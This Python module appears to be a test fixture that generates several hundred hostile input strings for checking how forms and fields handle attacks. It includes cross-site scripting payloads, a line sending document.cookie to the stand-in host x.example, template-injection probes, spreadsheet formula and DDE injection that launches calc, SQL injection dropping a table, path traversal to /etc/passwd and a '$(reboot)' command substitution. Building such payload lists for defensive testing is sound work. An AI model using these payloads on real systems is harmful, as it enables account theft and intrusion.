"""What people with bad intentions write into boxes: more than 500 scripts, formulas and strange letters."""

from __future__ import annotations

from collections.abc import Iterator
from functools import cache
from itertools import product

_ACTS = ("alert(1)", "fetch('//x.example/'+document.cookie)", "location='//x.example'")
_TAGS = (
    "<script>{act}</script>",
    "<script src=//x.example/a.js></script>",
    "<img src=x onerror={act}>",
    '<img src=x onerror="{act}" alt=\'',
    "<svg onload={act}>",
    "<svg><animate onbegin={act} attributeName=x>",
    "<svg><script>{act}</script></svg>",
    "<math><mtext></mtext><script>{act}</script></math>",
    "<iframe srcdoc='<script>{act}</script>'>",
    "<iframe src=javascript:{act}>",
    "<a href=javascript:{act}>klik</a>",
    "<a href='data:text/html,<script>{act}</script>'>klik</a>",
    "<form action=//x.example><input name=_csrf>",
    "<button formaction=//x.example>Kirim</button>",
    "<input onfocus={act} autofocus>",
    "<select onfocus={act} autofocus>",
    "<textarea onfocus={act} autofocus>",
    "<details open ontoggle={act}>",
    "<body onload={act}>",
    "<base href=//x.example/>",
    "<link rel=stylesheet href=//x.example/a.css>",
    "<style>@import '//x.example/a.css';</style>",
    "<meta http-equiv=refresh content='0;url=//x.example'>",
    "<object data=javascript:{act}>",
    "<embed src=javascript:{act}>",
    "<video><source onerror={act}></video>",
    "<marquee onstart={act}>",
    "<template><script>{act}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={act}>'>",
    "<!--><script>{act}</script-->",
    "<![CDATA[<script>{act}</script>]]>",
)
_BREAKS = (
    "{tag}",
    '">{tag}',
    "'>{tag}",
    "</textarea>{tag}",
    "</title>{tag}",
    "</dd></dl>{tag}",
)
_ATTRIBUTES = (
    '" onmouseover="{act}" x="',
    "' onmouseover='{act}' x='",
    "` onmouseover=`{act}` x=`",
    '" autofocus onfocus="{act}',
    '"/onmouseover={act}//',
    '" style="background:url(javascript:{act})',
    'x" data-reference="PLU-26-0000-000',
)
_TEMPLATES = (
    "{{7*7}}",
    "{{ config }}",
    "{% include 'pages/petugas_bilah.html' %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{ session.csrf }}",
    "{0.__class__}",
    "%(name)s",
    "%s%s%n",
    't("officer_bar.queue")',
)
_FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("//x.example","klik")',
    '=IMPORTXML("//x.example","//a")',
    '=WEBSERVICE("//x.example")',
    'DDE("cmd";"/C calc";"x")',
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
)
_BEFORE = ("", " ", "  ", "'", '"', ";", ",")
_LETTERS = (
    "a" + "\u0301" * 400,
    "ᬓᬸ" * 40,
    "é" * 200,
    "ﷺ" * 30,
    "👨‍👩‍👧‍👦" * 20,
    "&lt;script&gt;{act}&lt;/script&gt;",
    "&#60;script&#62;{act}&#60;/script&#62;",
    "%3Cscript%3E{act}%3C/script%3E",
    "\\u003cscript\\u003e{act}",
    "＜script＞{act}＜/script＞",
    "<ſcript>{act}</ſcript>",
    "../../etc/passwd",
    "'; DROP TABLE kasus; --",
    "$(reboot)",
    "javascript:{act}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "x" * 300,
)


def _all() -> Iterator[str]:
    for place, (tag, wrap) in enumerate(product(_TAGS, _BREAKS)):
        for act in _ACTS[: 2 if place % 3 else 3]:
            yield wrap.format(tag=tag.format(act=act))
    for text, act in product(_ATTRIBUTES, _ACTS):
        yield text.format(act=act)
    yield from _TEMPLATES
    for before, formula in product(_BEFORE, _FORMULAS):
        yield before + formula
    for text in _LETTERS:
        yield text.replace("{act}", _ACTS[0])


@cache
def payloads() -> tuple[str, ...]:
    """All of them, each once, in an order that mixes their kinds."""
    found = list(dict.fromkeys(_all()))
    return tuple(found[start::17][n] for start in range(17) for n in range(len(found[start::17])))
